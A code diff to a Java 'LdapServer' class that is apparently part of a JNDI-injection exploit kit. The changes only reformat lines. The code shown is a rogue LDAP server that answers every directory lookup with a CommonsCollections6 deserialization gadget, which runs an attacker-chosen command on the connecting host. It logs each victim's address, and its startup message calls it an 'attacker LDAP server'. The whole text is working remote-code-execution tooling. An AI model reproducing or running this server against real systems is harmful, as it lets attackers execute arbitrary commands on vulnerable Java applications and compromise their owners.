@@ -35,17 +35,20 @@ public final class LdapServer implements AutoCloseable {
 
     public LdapServer(int port, List<String> command, PrintStream log) throws LDAPException, IOException {
         InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig("dc=inlay,dc=example");
-        config.setListenerConfigs(InMemoryListenerConfig.createLDAPConfig("ldap", InetAddress.getByName("0.0.0.0"),
-                port, null));
+        config.setListenerConfigs(
+                InMemoryListenerConfig.createLDAPConfig("ldap", InetAddress.getByName("0.0.0.0"), port, null));
         config.setSchema(null);
         config.addInMemoryOperationInterceptor(new InMemoryOperationInterceptor() {
             @Override
             public void processSearchResult(InMemoryInterceptedSearchResult result) {
                 String base = result.getRequest().getBaseDN();
                 lookups.incrementAndGet();
-                List<String> concrete = command.stream().map(arg -> arg.replace("{rdn}", firstRdnValue(base))).toList();
-                log.printf("LDAP-LOOKUP %s base=%s from=%s answer=commons-collections6 command=%s%n", Instant.now(),
-                        base, result.getConnectedAddress(), concrete);
+                List<String> concrete = command.stream()
+                        .map(arg -> arg.replace("{rdn}", firstRdnValue(base)))
+                        .toList();
+                log.printf(
+                        "LDAP-LOOKUP %s base=%s from=%s answer=commons-collections6 command=%s%n",
+                        Instant.now(), base, result.getConnectedAddress(), concrete);
                 log.flush();
                 try {
                     byte[] gadget = Gadgets.commonsCollections6(concrete);
@@ -75,8 +78,8 @@ public final class LdapServer implements AutoCloseable {
             System.err.println("usage: LdapServer PORT COMMAND [ARGS...]");
             System.exit(2);
         }
-        LdapServer ldap = new LdapServer(Integer.parseInt(args[0]), List.of(Arrays.copyOfRange(args, 1, args.length)),
-                System.out);
+        LdapServer ldap = new LdapServer(
+                Integer.parseInt(args[0]), List.of(Arrays.copyOfRange(args, 1, args.length)), System.out);
         ldap.start();
         System.out.println("attacker LDAP server on :" + ldap.port() + ", answering with a gadget running "
                 + String.join(" ", Arrays.copyOfRange(args, 1, args.length)));
